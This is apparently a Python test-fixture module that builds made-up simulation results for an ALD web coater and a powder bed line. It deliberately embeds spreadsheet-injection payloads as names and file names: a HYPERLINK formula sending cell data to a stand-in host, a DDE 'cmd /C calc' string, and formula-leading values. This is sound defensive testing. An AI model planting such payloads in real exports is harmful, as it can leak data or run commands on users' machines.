"""Two made-up results, one of a web and one of a powder, with figures that close and names that try to do harm."""

from __future__ import annotations

import math
from dataclasses import replace

from r2r_sim.catalog import Verdict
from r2r_sim.cost.breakdown import Behaviour, CostBreakdown, CostItem, LabourRow, Price, UnitCost
from r2r_sim.errors import Finding
from r2r_sim.kpi.table import (
    Definition,
    FailureRow,
    GapRow,
    GroupRow,
    Kpi,
    KpiTable,
    LossRow,
    MonthRow,
    QuantileRow,
    ResourceRow,
    StateRow,
    WaitRow,
)
from r2r_sim.process.operating_point import Alternative, Consumption, Growth, Limit, OperatingPoint, Step
from r2r_sim.scenario import InputRow
from r2r_sim.study.result import Check, EstimateRow, Provenance, StudyResult, Target
from r2r_sim.study.separator import CoatedSeparator

EVIL = '=HYPERLINK("http://example.invalid/?q="&A1,"click me")'
LONG = "a very long name of a thing in the plant that nobody would ever use but somebody will, " * 3
STATES = (
    ("coating", "productive", "web runs at speed and is coated"),
    ("waiting for crew", "standby", "waits for people to load, unload or change"),
    ("roll change", "scheduled down", "roll taken off, next roll mounted"),
    ("maintenance", "scheduled down", "planned maintenance and cleaning"),
    ("repair", "unscheduled down", "failure under repair"),
    ("not scheduled", "non-scheduled", "unworked shift, holiday or shutdown"),
)


def item(
    category: str,
    name: str,
    behaviour: Behaviour,
    quantity: float,
    unit: str,
    price: Price | None,
    good: tuple[float, float],
    basis: str = "simulated",
) -> CostItem:
    amount = None if price is None else quantity * price.mode
    return CostItem(
        category=category,
        name=name,
        basis=basis,
        behaviour=behaviour,
        quantity=quantity,
        quantity_unit=unit,
        simulated=behaviour == "variable",
        price=price,
        amount_per_year=amount,
        low_per_year=None if price is None else quantity * (price.mode if price.low is None else price.low),
        high_per_year=None if price is None else quantity * (price.mode if price.high is None else price.high),
        per_kg=None if amount is None else amount / good[0],
        per_m2=None if amount is None else amount / good[1],
        confidence="none" if price is None else price.confidence,
    )


def total(name: str, items: list[CostItem], good: tuple[float, float], use: float | None, by_area: bool) -> UnitCost:
    amount = sum(i.amount_per_year or 0.0 for i in items)
    per_unit = amount / good[1] if by_area else amount / good[0]
    return UnitCost(
        name=name,
        per_year=amount,
        per_kg=amount / good[0],
        per_m2=amount / good[1],
        per_kwh=None if use is None else per_unit * use,
        half_width_per_kg=0.004 * amount / good[0],
        half_width_per_m2=0.004 * amount / good[1],
        low_per_year=sum(i.low_per_year or 0.0 for i in items),
        high_per_year=sum(i.high_per_year or 0.0 for i in items),
    )


def breakdown(
    items: list[CostItem],
    good: tuple[float, float],
    *,
    by_area: bool,
    use: Price | None,
    value: float | None,
    substrate: float | None,
) -> CostBreakdown:
    marginal = total("marginal", [i for i in items if i.behaviour == "variable"], good, use and use.mode, by_area)
    full = total("full", items, good, use and use.mode, by_area)
    missing = tuple(i.name for i in items if i.price is None)
    basis = "coating price of 4.5 EUR/kg (stated)"
    if value is None and missing:
        basis = "no coating price is stated, and the full cost is not known (not stated: ...)"
    elif value is None:
        value = full.per_m2 if by_area else full.per_kg
        basis = "full cost, since no coating price is stated"
    return CostBreakdown(
        currency="USD" if by_area else "EUR",
        year=2026,
        items=tuple(items),
        marginal=marginal,
        full=full,
        labour=(LabourRow("operators", 2.0, 2.0 * 4.8), LabourRow("fitters, night & day", 0.5, None)),
        good_kg_per_year=good[0],
        good_m2_per_year=good[1],
        product_basis="m2" if by_area else "kg",
        cell_use=use,
        value_per_unit=value,
        value_basis=basis,
        missing=missing,
        substrate_per_unit=substrate,
    )


def kpis(product: str, per_day: float, other: float, n: int) -> tuple[Kpi, ...]:
    main, second = ("m2/day", "t/day") if product == "web" else ("t/day", "m2/day")
    month = "m2/month" if product == "web" else "t/month"
    rows = [
        (f"good_{main.replace('/', '_per_')}", main, per_day),
        (f"good_{second.replace('/', '_per_')}", second, other),
        ("oee", "-", 0.7312),
        ("teep", "-", 0.7071),
        ("scrap_share", "-", 0.0231),
        ("availability", "-", 0.91),
        (f"committed_{month.replace('/', '_per_')}", month, per_day * 28.9),
        ("precursor_tma_kg_per_day", "kg/day", 31.62),
        ("precursor_h2o_kg_per_day", "kg/day", 88.4),
        ("precursor_tma_heel_kg_per_day", "kg/day", 1.1),
        ("precursor_tma_utilisation", "-", 0.412),
        ("n2_nm3_per_day", "Nm3/day", 12345.6),
        ("electricity_kwh_per_day", "kWh/day", 8123.0),
        ("wait_crew_h_per_year", "h/year", 0.0),
    ]
    return tuple(
        Kpi(name, unit, mean, 0.004 * mean, 0.97 * mean, 1.02 * mean, n)
        if n > 1
        else Kpi(name, unit, mean, None, None, None, 1)
        for name, unit, mean in rows
    )


def definitions(names: list[str]) -> tuple[Definition, ...]:
    return tuple(
        Definition(
            name,
            name.replace("_", " ").capitalize(),
            "-",
            "good output of all lots x area per quantity / days; web: length x coated width, once whatever the sides",
            "after SEMI E79, on operations time instead of total time",
            "operations time: total less non-scheduled time",
        )
        for name in names
    )


def months(per_day: float, n: int) -> tuple[MonthRow, ...]:
    means = [per_day * 365 / 12 * (1 + 0.02 * math.sin(i)) for i in range(12)]
    low, high = (0.95, 1.04) if n > 1 else (1.0, 1.0)
    return tuple(MonthRow(i + 1, mean, low * mean, high * mean) for i, mean in enumerate(means))


def states(groups: dict[str, int]) -> tuple[StateRow, ...]:
    hours = (6440.25, 210.5, 700.0, 640.25, 480.0, 289.0)
    assert sum(hours) == 8760
    return tuple(
        StateRow(f"{group}-{number + 1}", group, sub, e10, hour, hour / 8760)
        for group, count in groups.items()
        for number in range(count)
        for (sub, e10, _), hour in zip(STATES, hours, strict=True)
    )


def losses(
    group: str, nameplate: float, good: float, causes: list[tuple[str, str, float, float | None]]
) -> list[LossRow]:
    """Losses in given proportions that close exactly."""
    scale = (nameplate - good) / sum(weight for *_, weight, _ in causes)
    return [
        LossRow(group, cause, e10, weight * scale, weight * scale / nameplate, hours, e10 == "quality")
        for cause, e10, weight, hours in causes
    ]


def inputs() -> tuple[InputRow, ...]:
    rows = [
        InputRow(
            "process.thickness", "Film thickness", "5", 5.0, "nm", None, None, "", True, False, "scenario", "stated"
        ),
        InputRow(
            "material.coated_depth", EVIL, "full", None, "", None, None, "faces", True, True, "scenario", "stated"
        ),
        InputRow("plant.calendar.pattern", LONG, "continuous", None, "", None, None, "", True, False, "scenario", ""),
        InputRow(
            "plant.lines.coater.gap",
            "Gap between head and web",
            "0.5",
            0.5,
            "mm",
            0.3,
            0.8,
            "0.5 mm",
            False,
            False,
            "our own estimate of a usual head, to be replaced",
            "estimate",
        ),
        InputRow(
            "cost.prices.tma", "Price of tma", "200", 200.0, "USD/kg", 100.0, 300.0, "", True, False, "none", "none"
        ),
        InputRow(
            "catalog.precursor.tma.sites",
            "Sites: 涂层 größe \x07 with a bell",
            "4e18",
            4e18,
            "1/m2",
            3.2e18,
            4.9e18,
            "",
            False,
            False,
            "catalog",
            "medium",
        ),
        InputRow("x.y", "@SUM(A1)", "-1+2", None, "", None, None, "+1", True, True, "\tscenario", "low"),
    ]
    return tuple(rows + [replace(rows[3], path=f"plant.lines.coater.zone_{i}") for i in range(40)])


def limit(name: str, kind: str, value: float, unit: str, margin: float, step: str = "") -> Limit:
    return Limit(
        name,
        kind,  # type: ignore[arg-type]
        value,
        unit,
        margin,
        {"gap [mm]": 0.5, "diffusivity [cm2/s]": 0.117, "zone [mm]": 60.0},
        "exposure = p t, t = sites sqrt(2 pi m k T) / p x (1 + 19 a^2/4 + 3 a/2)",
        step,
    )


def web_point(name: str) -> OperatingPoint:
    tma = 2.31e-5
    return OperatingPoint(
        unit=name,
        unit_kind="spatial_web",
        count=1,
        rate=0.1417,
        nameplate=0.1417,
        steps=(
            Step("dose A", 0.42, 40, "tma", ruled_by="web speed", shortest=0.42),
            Step("purge", 0.28, 40, ruled_by="web speed", shortest=0.28),
            Step("dose B", 0.85, 40, "h2o", ruled_by="web speed", shortest=0.85),
        ),
        cycles=40,
        passes=1,
        growth=Growth(5e-9, 1.25e-10, 0.99, 0.98, 4.2e18, 3.1e-4, 20.6, 1.2, 0.013, 0.41, 0.385, 3.9e-8),
        consumption=Consumption(
            "hot_second",
            {"tma": 5e-4, "h2o": 1.2e-3},
            {"tma": 0.412},
            0.05,
            5400.0,
            {"tma": 5e-4, "h2o": 1.2e-3},
            0.055,
            {"CH4": 0.002},
        ),
        limits=(
            limit("delivery of TMA by the cabinet", "max_speed", 0.1417, "m/min", 0.0),
            limit("dose A", "max_speed", 0.19, "m/min", 0.341),
            limit("purge isolation", "max_speed", 0.33, "m/min", 1.33),
            limit("web handling", "max_speed", 2.5, "m/min", 16.6),
            limit("dryer", "max_speed", math.inf, "m/min", math.inf),
        ),
        alternatives=(
            Alternative("faces", False, 1.31, "web handling", 2.0, 3.1e-5, {"tma": tma / 9, "h2o": 4e-5}, 0.41),
            Alternative(
                "2 um from each face", True, 0.1417, "delivery", 20.6, 3.1e-4, {"tma": tma, "h2o": 5e-4}, 0.385
            ),
            Alternative("full", False, None, "", math.nan, math.nan, {}, note="dose A leaves no positive web speed"),
        ),
    )


def bed_point(name: str) -> OperatingPoint:
    return OperatingPoint(
        unit=name,
        unit_kind="fluidised_bed",
        count=12,
        rate=500.0,
        nameplate=0.035,
        steps=(
            Step("heat", 3600.0, 1, ruled_by="heater", shortest=3600.0),
            Step("first dose A", 2100.0, 1, "tma", 4.1, "delivery", 2100.0),
            Step("dose A", 1500.0, 3, "tma", 2.9, "delivery", 1500.0),
            Step("purge A", 240.0, 4, ruled_by="bed purge", shortest=240.0),
            Step("dose B", 600.0, 4, "h2o", 3.4, "given", 400.0),
            Step("purge B", 300.0, 4, ruled_by="bed purge", shortest=300.0),
            Step("cool", 2400.0, 1, ruled_by="cooling", shortest=2400.0),
        ),
        cycles=4,
        passes=1,
        growth=Growth(6e-10, 1.5e-10, 1.0, 0.97, 4.2e18, 8.4e-4, 350.0),
        consumption=Consumption(
            "batch",
            {"tma": 12.8, "h2o": 13.6},
            {"tma": 0.81, "h2o": 0.5},
            41.0,
            5.4e7,
            {"tma": 1.95e-3, "h2o": 5.6e-3},
            0.004,
        ),
        limits=(
            limit("delivery of TMA by the cabinet", "min_time", 1500.0, "min", 0.0, "dose A"),
            limit("heater", "min_time", 3600.0, "min", 0.0, "heat"),
            limit("entrainment", "max_flow", 0.02, "g/min", 0.21),
            limit("bed height", "max_mass", 812.0, "kg", 0.62),
            limit("mixing", "min_time", 12.0, "s", 124.0, "dose A"),
        ),
    )


def checks() -> tuple[Check, ...]:
    return (
        Check("mass balance of the web", 0.0, 1e-9, "m2", True, "in = out + scrap + held"),
        Check("states partition time", 0.0, 0.5, "ms", True, LONG),
    )


def findings() -> tuple[Finding, ...]:
    rows = [
        Finding("process.exposed", EVIL, "warning", "plant.lines.coater", "plan.yaml", 3, 4, hint=LONG),
        Finding("cost.price_missing", "the price of nitrogen is not stated: it is not in the totals", "warning"),
        Finding("note.one", "the reaction heat is not known", "note", hint="state it"),
    ]
    rows += [Finding(f"assumption.{i}", f"assumption {i}: {LONG}", "warning") for i in range(6)]
    return tuple(rows)


def provenance(replications: int) -> Provenance:
    return Provenance(
        versions=(("r2r_sim", "0.1.0"), ("python", "3.11.7"), ("numpy", "2.3.4")),
        seed=20260101,
        replications=replications,
        horizon_days=365.0,
        scenario_file="=cmd|' /C calc'!A0.yaml",
        scenario_hash="9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        overrides=("plant.lines.coater.count: 1 -> 2", "=1+1"),
    )


def _coated() -> CoatedSeparator:
    """One requirement met, one missed by the coating, one that nothing is calculated for."""
    source = "made up, table 8"
    verdicts = (
        Verdict("thickness", "20 to 25 um", "um", 20.0, 25.0, 25.0, 25.01, True, True, source, "thinner ones sell too"),
        Verdict("porosity", "40 to 60 %", "%", 40.0, 60.0, 50.0, 35.4, True, False, source, ""),
        Verdict("shrinkage when hot", "less than 5 %", "%", None, 5.0, None, None, None, None, source, ""),
    )
    return CoatedSeparator("coater", verdicts)


def web(replications: int = 20, *, holes: bool = False) -> StudyResult:
    """A web line that misses its target; with ``holes`` some prices are not stated."""
    good, nameplate = 9843.217, 13511.5
    per_year = (good * 365 * 0.0123, good * 365)
    tma = Price(200.0, 100.0, 300.0, "USD/kg", "estimate", "no public quotation; " + LONG, "cost.prices.tma")
    power = Price(0.08, 0.07, 0.09, "USD/kWh", "medium", "=1+1", "cost.prices.electricity")
    wage = Price(35.0, 20.0, 45.0, "USD/h", "low", "", "cost.prices.wage")
    stated = "2 posts x 4.8 heads per post x 1,700 paid h a head and year (stated)"
    items = [
        item("precursor", "TMA", "variable", 31.62 * 365, "kg", tma, per_year, "supplied (simulated)"),
        item("precursor", "H2O", "variable", 88.4 * 365, "kg", replace(tma, mode=0.01, low=None, high=None,
             path="cost.prices.h2o", confidence="high", source="tap"), per_year),
        item("gas", "nitrogen", "variable", 4506144.0, "Nm3", None if holes else replace(power, mode=0.25,
             low=0.14, high=0.35, unit="USD/Nm3", path="cost.prices.n2"), per_year),
        item("energy", "electricity", "variable", 2964895.0, "kWh", power, per_year),
        item("energy", "process heat", "variable", 96123.0, "kWh", power, per_year),
        item("scrap", "substrate", "variable", 145301.0, "m2", replace(power, mode=1.0, low=None, high=1.1,
             unit="USD/m2", path="cost.prices.substrate"), per_year),
        item("labour", "operators", "fixed", 2 * 4.8 * 1700.0, "h", wage, per_year, stated),
        item("labour", "fitters, night & day", "fixed", 0.5 * 8760, "h", wage, per_year, "0.5 posts x 8,760 open h"),
        item("maintenance", "maintenance", "fixed", 9.3e6, "USD", replace(wage, mode=0.04, low=0.03, high=0.06,
             unit="1/year", path="cost.maintenance"), per_year, "capital of 9,300,000 USD x share a year (stated)"),
        item("capital", "coater", "fixed", 0.1, "1/year", replace(wage, mode=9.0e6, low=4e6, high=20e6, unit="USD",
             path="cost.capital.coater"), per_year, "1 x amount / 10 years, straight line (stated)"),
        item("capital", EVIL, "fixed", 0.2, "1/year", replace(wage, mode=3e5, low=None, high=None, unit="USD",
             path=f"cost.capital.{EVIL}"), per_year),
        item("floor", "floor", "fixed", 400.0, "m2", None if holes else replace(power, mode=150.0, low=None, high=None,
             unit="USD/m2/year", path="cost.prices.floor"), per_year, "floor area (stated)"),
    ]  # fmt: skip
    use = Price(6.46, 6.0, 9.5, "m2/kWh", "medium", "derived", "cost.cell_use")
    causes: list[tuple[str, str, float, float | None]] = [
        ("roll change", "scheduled down", 9.0, 700.0),
        ("maintenance", "scheduled down", 7.0, 640.25),
        ("repair", "unscheduled down", 6.5, 480.0),
        ("not scheduled", "non-scheduled", 3.0, 289.0),
        ("waiting for crew", "standby", 2.5, 210.5),
        ("given speed below the limit", "rate", 1.5, None),
        ("start-up scrap & web breaks", "quality", 2.1, None),
    ]
    main = kpis("web", good, good * 0.0123 / 1000, replications)
    cost = breakdown(items, per_year, by_area=True, use=use, value=None, substrate=1.0)
    return StudyResult(
        separators=(_coated(),),
        name="5 nm Al2O3 on both faces of a Celgard-type separator, <b>bold</b> & 中文 plans",
        description="What one line gives when the TMA cabinet is shared. " + LONG,
        product="web",
        product_label="Celgard 2400 with 5 nm Al2O3",
        operating=(web_point("coater"),),
        kpi=KpiTable(
            kpis=main,
            months=months(good, replications),
            states=states({"coater": 1}),
            losses=tuple(losses("coater", nameplate, good, causes)),
            waits=(WaitRow("coater", "crew", 210.5),),
            failures=(FailureRow("coater", "drive", 66.2, 1.52), FailureRow("coater", "web break", 24.8, 1.0)),
            product_unit="m2/day",
        ),
        groups=(
            GroupRow(
                "coater",
                "spatial_web",
                1,
                nameplate,
                good,
                0.735,
                0.024,
                0.208,
                0.033,
                0.7312,
                "delivery of TMA by the cabinet",
                "dose A",
            ),
        ),
        resources=(
            ResourceRow("coater", "line", 0.943, 0.0, 1),
            ResourceRow("tma", "cabinet", 0.75, 12.5, 2),
            ResourceRow("operators", "crew", 0.31, 210.5, 3),
        ),
        bottleneck="delivery of TMA by the cabinet (30 g/min) limits coater at 8.5 m/min; dose A would be next",
        estimate_per_day=10120.0,
        estimates=(EstimateRow("coater", 10120.0, "13,511 m2/day x 0.967 open x 0.775 available = 10,120 m2/day"),),
        gap=(
            GapRow("queue for people", -180.3),
            GapRow("chance of failures", -60.25),
            GapRow("all other", good - 10120.0 + 180.3 + 60.25),
        ),
        cost=cost,
        targets=(
            Target("throughput", 10000.0, "m2/day", good, False, 0.05, (0.0013, 0.249)),
            Target("cost", 1.5, "USD/m2", cost.full.per_m2, cost.full.per_m2 <= 1.5, 0.9),
        ),
        inputs=inputs(),
        definitions=definitions([kpi.name for kpi in main]),
        state_table=STATES,
        checks=checks(),
        findings=findings(),
        provenance=provenance(replications),
        samples={"good_m2_per_day": (good,) * replications},
        quantiles=(QuantileRow(0.1, 9000.0, None, 9100.0), QuantileRow(0.5, good, 9500.0, 9900.0))
        if replications > 1
        else (),
        daily=tuple(9500.0 + 40.0 * (day % 7) for day in range(60)),
    )


def powder(replications: int = 20) -> StudyResult:
    """Twelve beds and two small ones that meet their target, in EUR, with a stated coating price."""
    parts = {"bed": (12, 11.25, 8.831), EVIL: (2, 2.11, 1.402)}
    good = sum(g for *_, g in parts.values())
    per_year = (good * 1000 * 365, good * 1e6 * 365 * 0.35)
    tma = Price(250.0, 120.0, 400.0, "EUR/kg", "estimate", "guess", "cost.prices.tma")
    items = [
        item("precursor", "TMA", "variable", 71.2 * 365, "kg", tma, per_year),
        item("gas", "nitrogen", "variable", 1.2e6, "Nm3", replace(tma, mode=0.2, low=0.1, high=None, unit="EUR/Nm3",
             path="cost.prices.n2", confidence="medium"), per_year),
        item("labour", "operators", "fixed", 3 * 8760.0, "h", replace(tma, mode=42.0, low=None, high=None,
             unit="EUR/h", path="cost.prices.wage"), per_year),
        item("maintenance", "maintenance", "fixed", 0.0, "EUR", None, per_year, "no capital stated"),
        item("capital", "equipment", "fixed", 0.0, "1/year", None, per_year, "no capital stated"),
    ]  # fmt: skip
    causes: list[tuple[str, str, float, float | None]] = [
        (f"stop number {i}", ("scheduled down", "unscheduled down", "standby")[i % 3], 5.0 - 0.3 * i, 500.0 - 30 * i)
        for i in range(14)
    ]
    causes += [("waits for its cabinet's flow", "standby", 6.0, 611.0), ("off-spec batches", "quality", 1.0, None)]
    rows = [row for name, (_, n, g) in parts.items() for row in losses(name, n, g, causes)]
    main = kpis("powder", good, good * 1e6 * 0.35, replications)
    return StudyResult(
        name="4 cycles of Al2O3 on NMC811",
        description="",
        product="powder",
        product_label="NMC811 with 4 cycles of Al2O3",
        operating=(bed_point("bed"), bed_point(EVIL)),
        kpi=KpiTable(
            kpis=main,
            months=months(good, replications),
            states=states({name: count for name, (count, *_) in parts.items()}),
            losses=tuple(rows),
            waits=(),
            failures=(),
            product_unit="t/day",
        ),
        groups=tuple(
            GroupRow(name, "fluidised_bed", count, n, g, 0.735, 0.024, 0.208, 0.033, g / n, "delivery of TMA", "heater")
            for name, (count, n, g) in parts.items()
        ),
        resources=(
            ResourceRow("tma", "cabinet", 0.97, 4120.5, 1),
            ResourceRow("bed", "reactor", 0.943, 0.0, 2),
            ResourceRow(EVIL, "reactor", 0.91, 0.0, 3),
            *(ResourceRow(f"crew {i}", "crew", 0.3 - 0.02 * i, 1.0, 4 + i) for i in range(9)),
        ),
        bottleneck="TMA's cabinet gives 40 g/min and is drawn 97 % of the time; beds wait for its flow",
        estimate_per_day=11.0,
        estimates=(EstimateRow("bed", 9.4, LONG), EstimateRow(EVIL, 1.6, "short")),
        gap=(GapRow("flow shared between beds", -1.0), GapRow("all other", good - 10.0)),
        cost=breakdown(items, per_year, by_area=False, use=None, value=4.5, substrate=None),
        targets=(Target("throughput", 10.0, "t/day", good, True, None if replications < 2 else 0.97),),
        inputs=inputs(),
        definitions=definitions([kpi.name for kpi in main]),
        state_table=STATES,
        checks=checks(),
        findings=findings()[2:3],
        provenance=provenance(replications),
    )


def holes() -> StudyResult:
    """The web with prices that are not stated."""
    return web(holes=True)


def single() -> StudyResult:
    """The powder, simulated once."""
    return powder(1)


def bare() -> StudyResult:
    """One replication, no cost section, no target, no month, NaN here and there."""
    full = web(1)
    kpi = replace(full.kpi, months=(), waits=(), failures=())
    point = replace(full.operating[0], growth=replace(full.operating[0].growth, porosity_after=math.nan))
    return replace(
        full, kpi=kpi, cost=None, targets=(), findings=(), gap=(GapRow("all", 9843.217 - 10120.0),), operating=(point,)
    )
